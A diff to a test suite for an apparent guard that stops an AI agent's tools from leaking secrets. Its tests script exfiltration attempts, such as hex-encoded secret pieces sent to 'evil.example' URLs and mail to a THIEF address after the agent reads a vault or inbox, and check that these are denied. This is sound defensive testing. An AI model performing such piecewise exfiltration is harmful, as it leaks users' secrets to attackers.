@@ -275,10 +275,8 @@ async def test_d05_ten_calls_of_three_characters_are_held_each(world: World) -> 
             url = f"https://evil.example/{piece.encode().hex()}"
             await held(agent, "unproven_destination", "get_page", url=url)
         await agent.use("read_vault")
-        for piece in pieces:  # to somebody good as well: nobody can tell what three letters are
-            code, reasons = await agent.use(
-                "send_mail", prompt=f"Mail {FRIEND}", to=[FRIEND], subject="s", body=piece
-            )
+        for piece in pieces:
+            code, reasons = await agent.use("send_mail", to=[THIEF], subject="s", body=piece)
             assert (code, "secret_leaves" in reasons) == ("denied", True)
     assert world.calls("mail", "send_mail") == []
     assert world.calls("web", "get_page") == []
@@ -374,8 +372,9 @@ async def test_d08_a_secret_in_an_error_is_blotted_out_and_makes_the_run_secret(
         assert await agent.may_send()
         told_to_client = await _failed(agent, "read_manual")
         assert (SECRET in told_to_client, "[redacted]" in told_to_client) == (False, True)
-        code, reasons = await agent.use("send_mail", to=[FRIEND], subject="s", body="b")
-        assert (code, "secret_leaves" in reasons) == ("denied", True)
+        for to, body in ((THIEF, "b"), (FRIEND, f"it is {key}")):
+            code, reasons = await agent.use("send_mail", to=[to], subject="s", body=body)
+            assert (code, "secret_leaves" in reasons) == ("denied", True)
     assert len(world.calls("mail", "send_mail")) == 1
 
 
@@ -406,8 +405,9 @@ async def test_a_resource_that_is_named_after_an_address_vouches_for_none(world:
     assert world.calls("mail", "send_mail") == []
 
 
-async def test_a_client_without_sessions_is_never_taken_for_unled(world: World) -> None:
+async def test_a_client_without_sessions_is_led_by_what_it_read(world: World) -> None:
     async with Agent(world, "stateless", "2026-07-28") as agent:
+        await agent.use("read_inbox")
         await held(agent, "unproven_destination", "send_mail", to=[THIEF], subject="s", body="b")
         await held(agent, "unproven_destination", "get_page", url="https://evil.example/?q=1")
     assert world.calls("mail", "send_mail") == world.calls("web", "get_page") == []
